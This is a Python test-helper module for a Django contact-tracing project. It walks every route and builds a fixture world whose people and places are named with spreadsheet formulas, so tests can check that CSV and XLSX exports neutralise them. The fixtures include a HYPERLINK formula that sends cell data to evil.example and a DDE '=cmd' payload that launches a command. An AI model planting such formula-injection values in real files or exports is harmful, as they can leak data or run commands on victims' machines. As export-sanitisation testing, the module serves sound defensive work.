"""Every route of the project, with its parameters filled from a small world, for the tests that check
a rule on all of them (exports neutralised, personal-data reads audited).

The world is made of made-up people whose names are spreadsheet formulas, so that any file or page that
shows them can be checked. A route with a parameter this module does not know makes those tests fail
with a message saying where to teach it: a new route is never silently left out.
"""

import re
from dataclasses import dataclass
from datetime import datetime, timedelta

from django.urls import URLPattern, URLResolver, get_resolver

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&B2,"Gọi")',
    "+84 Trần Thị Bình",
    "-Lê Minh Châu",
    "@Phạm Quốc Dũng",
    "＝Hoàng Thu Hà",
    "\t=Đỗ Văn Em",
]
HOSTILE_VENUE = "=1+2 Cà phê Giảng"
HOSTILE_SITE = "@Trạm y tế"
HOSTILE_TEAM = "+Tổ 1"


@dataclass(frozen=True)
class Route:
    pattern: str  # as Django writes it: "tracing/runs/<int:run_id>/"
    callback: object
    name: str

    @property
    def params(self) -> list[str]:
        return re.findall(r"<(?:\w+:)?(\w+)>", self.pattern)

    @property
    def is_api(self) -> bool:
        return self.pattern.startswith("api/")

    @property
    def is_admin(self) -> bool:
        return self.pattern.startswith("admin/")


def all_routes() -> list[Route]:
    """Every URL pattern of the project (pages, API operations, Django admin), flattened."""

    def walk(patterns, prefix=""):
        for p in patterns:
            if isinstance(p, URLResolver):
                yield from walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern):
                yield Route(prefix + str(p.pattern).lstrip("^").rstrip("$"), p.callback, p.name or "")

    return list(walk(get_resolver().url_patterns))


def api_operations() -> list[tuple[str, str, object]]:
    """(method, path, handler) of every Ninja API operation."""
    from epiqr.api import api

    out = []
    for prefix, router in api._routers:
        for path, path_view in router.path_operations.items():
            for operation in path_view.operations:
                for method in operation.methods:
                    out.append((method, f"/api/v1{prefix}{path}".replace("//", "/"), operation.view_func))
    return out


def build_world(*, commune, admin) -> dict:
    """A venue, an F0 with a stored tracing run, a sampling session with a resulted tube, a declaration,
    an API token and an outbox message; everyone named with a formula."""
    from epiqr.accounts.services import api_token_create
    from epiqr.cases.services import case_open
    from epiqr.checkins.services import checkin_checkout, checkin_record, declaration_submit
    from epiqr.core.timeutil import VN_TZ, local_today
    from epiqr.notify.services import message_send
    from epiqr.people.models import DocumentKind, IdentityDocument
    from epiqr.testing import services as testing
    from epiqr.testing.models import TestKind
    from epiqr.tracing.services import run_create
    from epiqr.venues.selectors import venue_token
    from tests.factories import PersonFactory, VenueFactory
    from tests.tracing.conftest import reseed_policies

    reseed_policies()
    people = []
    for n, name in enumerate(HOSTILE_NAMES):
        person = PersonFactory(
            full_name=name,
            commune=commune,
            address=f"=cmd|' /C calc'!A{n}",
            phone=f"0987{n:06d}",
            birth_year=1980 + n,
        )
        IdentityDocument.objects.create(person=person, kind=DocumentKind.CCCD, number=f"0019{n:08d}")
        people.append(person)
    venue = VenueFactory(name=HOSTILE_VENUE, commune=commune, address="-1 Phố Thử", owner=None)
    yesterday = local_today() - timedelta(days=1)

    def at(hour, minute=0):
        return datetime(yesterday.year, yesterday.month, yesterday.day, hour, minute, tzinfo=VN_TZ)

    f0, *contacts = people
    visits = [(f0, at(10), at(10, 40))] + [(p, at(10, 10 + 3 * i), at(11)) for i, p in enumerate(contacts)]
    for person, start, end in visits:
        checkin = checkin_record(venue_id=venue.pk, person_id=person.pk, method="self", at=start).checkin
        checkin_checkout(checkin_ids=[checkin.pk], person_ids=[person.pk], at=end)
    case = case_open(person=f0, confirmed_on=local_today(), onset_on=yesterday)
    run = run_create(case=case, policy_name="vn-window-60", actor=admin)
    site = testing.site_create(name=HOSTILE_SITE, commune_id=commune.pk, address="=1+1")
    session = testing.session_create(
        site=site, team=HOSTILE_TEAM, day=local_today(), kind=TestKind.PCR_POOLED, pool_size_limit=5
    )
    tube = testing.tube_open(session=session, barcode="AUD-0001", actor=admin)
    for person in people[:3]:
        testing.tube_member_add(tube=tube, person=person, actor=admin)
    tube = testing.tube_close(tube=tube, actor=admin)
    testing.result_record(tube=tube, value="negative", actor=admin)
    declaration = declaration_submit(
        data={
            "kind": "domestic",
            "full_name": HOSTILE_NAMES[1],
            "birth_year": 1990,
            "phone": people[1].phone,
            "commune": commune,
            "address": "@Ngõ 1",
            "symptoms": ["fever"],
        }
    )
    # A hotline request of the F1 from a team named with a formula (the statistics' download).
    from epiqr.hotline.models import Team, TeamKind
    from epiqr.hotline.services import Filing, ticket_file

    team = Team.objects.create(
        name=HOSTILE_TEAM, kind=TeamKind.COMMUNE, province=commune.province, commune=commune
    )
    ticket = ticket_file(
        filing=Filing(source="call", category="supplies", description="=1+1", phone=people[1].phone,
                      caller_name=people[1].full_name, commune_id=commune.pk, address="@Ngõ 2",
                      person_id=people[1].pk, team_id=team.pk),
        actor=admin,
    )  # fmt: skip
    token = api_token_create(user=admin, name="audit-walk")
    message_send(channel="sms", recipient=people[2].phone, body=f"Xin chào {people[2].full_name}")
    # Exports of the run page are written as jobs (core.jobs): their files are downloads of their own.
    from epiqr.core.models import JobFile
    from epiqr.core.services import job_run, job_start

    job_files = {}
    for fmt in ("csv", "xlsx"):
        job = job_start(
            kind="tracing.export",
            owner=admin,
            title=fmt,
            params={"run": run.pk, "format": fmt, "purpose": "kiểm tra"},
        )
        job_run(job_id=job.pk)
        job_files[fmt] = (job.pk, JobFile.objects.get(job=job, role=JobFile.RESULT).pk)
    # Checkpoints: a permit approved for a hostile name, and a checkpoint with one passage.
    from epiqr.checkpoints.models import Checkpoint, Passage, Permit
    from epiqr.checkpoints.services import organisation_register, permits_decide
    from epiqr.core.timeutil import now

    org = organisation_register(name=HOSTILE_VENUE, tax_code="0100000099", commune_id=commune.pk)
    permit = Permit.objects.create(
        organisation=org, commune=commune, holder_id_number="001980000001", holder_name=HOSTILE_NAMES[0],
        purpose=1, valid_from=local_today(), valid_until=local_today(), area_provinces=[commune.province_id],
    )  # fmt: skip
    permits_decide(actor=admin, permit_ids=[permit.pk], approve=True)
    checkpoint = Checkpoint.objects.create(
        code="chot-thu", name=HOSTILE_SITE, kind="gateway", commune=commune
    )
    Passage.objects.create(
        checkpoint=checkpoint, at=now(), outcome="valid", holder_name=HOSTILE_NAMES[2], source="phone"
    )
    from epiqr.cameras.models import Camera
    from epiqr.cameras.services import _alert

    camera = Camera.objects.create(code="cam-thu", name=HOSTILE_SITE, kind="quarantine", commune=commune)
    import numpy as np

    alert = _alert(camera, kind="door", at=now(), frame=np.zeros((60, 80), np.uint8))
    from epiqr.quarantine.services import call_record, quarantine_place

    quarantines = [
        quarantine_place(contact_id=c.pk, actor=None, policy_name="vn-2021-07-cv5599")
        for c in run.contacts.all()
    ]
    call_record(quarantine=quarantines[0], actor=admin, outcome="reached", note="=HYPERLINK(1)")
    return {
        "quarantine": quarantines[0],
        "camera": camera,
        "alert": alert,
        "permit": permit,
        "checkpoint": checkpoint,
        "job_files": job_files,
        "job": job,
        "people": people,
        "f0": f0,
        "venue": venue,
        "venue_token": venue_token(venue=venue),
        "case": case,
        "run": run,
        "contact": run.contacts.first(),
        "session": session,
        "tube": tube,
        "declaration": declaration,
        "ticket": ticket,
        "token_prefix": token.split(".")[0] if "." in token else token[:8],
    }


def path_for(route: Route, world: dict) -> str:
    """The route's URL with its parameters taken from the world."""
    from epiqr.checkins.selectors import declaration_code

    values = {
        "public_id": world["f0"].public_id,
        "person_id": world["f0"].public_id,
        "venue_id": world["venue"].pk,
        "case_id": world["case"].pk,
        "run_id": world["run"].pk,
        "contact_id": world["contact"].pk,
        "declaration_id": world["declaration"].pk,
        "barcode": world["tube"].barcode,
        "session_id": world["session"].pk,
        "token": world["venue_token"],
        "prefix": world["token_prefix"],
        "job_id": world["job"].pk,
        "file_id": world["job_files"]["xlsx"][1],
        "code": declaration_code(declaration=world["declaration"]),
        "purpose": "dcc",  # a signing purpose of core.keyring (its public trust and revocation lists)
        "kind": "commune",  # a place kind of the dashboards' level history
        "permit_id": world["permit"].pk,
        "checkpoint_id": world["checkpoint"].pk,
        "camera_id": world["camera"].pk,
        "alert_id": world["alert"].pk,
        "ticket_id": world["ticket"].pk,
        "quarantine_id": world["quarantine"].pk,
    }
    if route.pattern.startswith("dashboards/"):
        values["code"] = world["venue"].commune_id  # a commune's level history
    if route.pattern.startswith("api/v1/cameras/"):
        values["code"] = world["camera"].code
    if route.pattern.startswith("checkpoints/p/"):
        from epiqr.checkpoints.selectors import permit_link

        values["token"] = permit_link(permit=world["permit"]).rstrip("/").rsplit("/", 1)[1]
    if route.pattern.startswith("venues/"):
        values["pk"] = world["venue"].pk
    elif route.pattern.startswith("testing/sessions/"):
        values["pk"] = world["session"].pk
    elif route.pattern.startswith("vaccination/"):
        values["pk"] = 1  # vaccination writes no exports: any session or dose id (or a 404) will do
    if route.pattern.startswith(("care/", "api/v1/care/")):
        # care writes no exports: any facility, patient or routing id (or a 404) will do
        values.update(
            facility_id=1, patient_id=1, routing_id=1, release_code="00000000-0000-0000-0000-000000000000"
        )
    missing = [p for p in route.params if p not in values]
    assert not missing, (
        f"teach tests/routes.py:path_for the parameter(s) {missing} of route {route.pattern!r}"
    )
    path = route.pattern
    for name in route.params:
        path = re.sub(rf"<(?:\w+:)?{name}>", str(values[name]), path, count=1)
    return "/" + path
